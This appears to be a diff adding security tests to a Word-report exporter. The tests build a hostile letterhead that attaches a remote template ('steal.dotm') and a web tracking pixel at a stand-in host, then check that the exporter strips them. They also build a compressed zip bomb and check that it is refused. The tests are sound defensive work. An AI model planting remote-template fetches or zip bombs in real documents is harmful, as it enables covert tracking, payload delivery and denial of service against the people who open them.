@@ -530,3 +530,56 @@ def test_anonymised_and_full_exports_to_one_folder_do_not_replace_each_other(tmp
     anon = export_report(case, case.children[0], tmp_path, library, ReportOptions(anonymise=True))
     assert full != anon and anon.name.endswith("-anon.docx") and len(anon.name) < 60
     assert sorted(p.name for p in tmp_path.iterdir()) == sorted([full.name, anon.name])
+
+
+# ------------------------------------------------------------------ an untrusted base document (issue 13)
+
+ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+
+
+def hostile_base(path: Path) -> Path:
+    """A letterhead whose settings attach a template on a remote address (Word would fetch it on
+    opening) and whose header links a picture from the web, beside an ordinary hyperlink."""
+    org_base(path)
+    doc = docx.Document(str(path))
+    settings = doc.part._settings_part  # (python-docx keeps it there)
+    rid = settings.relate_to("http://remote.example/steal.dotm", ATTACHED, is_external=True)
+    element = docx.oxml.parse_xml(f'<w:attachedTemplate xmlns:w="{docx.oxml.ns.nsmap["w"]}" '
+                                  f'xmlns:r="{docx.oxml.ns.nsmap["r"]}" r:id="{rid}"/>')
+    settings.element.insert(0, element)
+    header = doc.sections[0].header.part
+    header.relate_to("http://remote.example/pixel.png", IMAGE, is_external=True)
+    header.relate_to("https://www.anyshire.example", HYPERLINK, is_external=True)
+    doc.save(str(path))
+    return path
+
+
+def test_a_base_document_never_makes_the_report_fetch_anything(case, library, tmp_path):
+    base = hostile_base(tmp_path / "hostile.docx")
+    data = report_bytes(case, case.children[0], library, ReportOptions(base_document=base), today=TODAY)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        rels = "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".rels"))
+        settings = z.read("word/settings.xml").decode("utf-8")
+    assert "remote.example" not in rels and "attachedTemplate" not in settings
+    assert "https://www.anyshire.example" in rels  # a link a reader clicks stays
+    doc = docx.Document(io.BytesIO(data))
+    assert "Anyshire Council" in "\n".join(p.text for p in doc.sections[0].header.paragraphs)
+
+
+def test_a_zip_bomb_for_a_base_document_is_refused_quickly(case, library, tmp_path):
+    import time
+
+    good = org_base(tmp_path / "org.docx")
+    bomb = tmp_path / "bomb.docx"
+    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
+        for item in src.infolist():
+            out.writestr(item, src.read(item.filename))
+        out.writestr("word/media/huge.bin", b"\0" * (200 * 1024 * 1024))
+    assert bomb.stat().st_size < 2 * 1024 * 1024
+    started = time.monotonic()
+    with pytest.raises(ReportError) as err:
+        report_bytes(case, case.children[0], library, ReportOptions(base_document=bomb), today=TODAY)
+    assert time.monotonic() - started < 10
+    assert "far larger than any letterhead" in str(err.value)
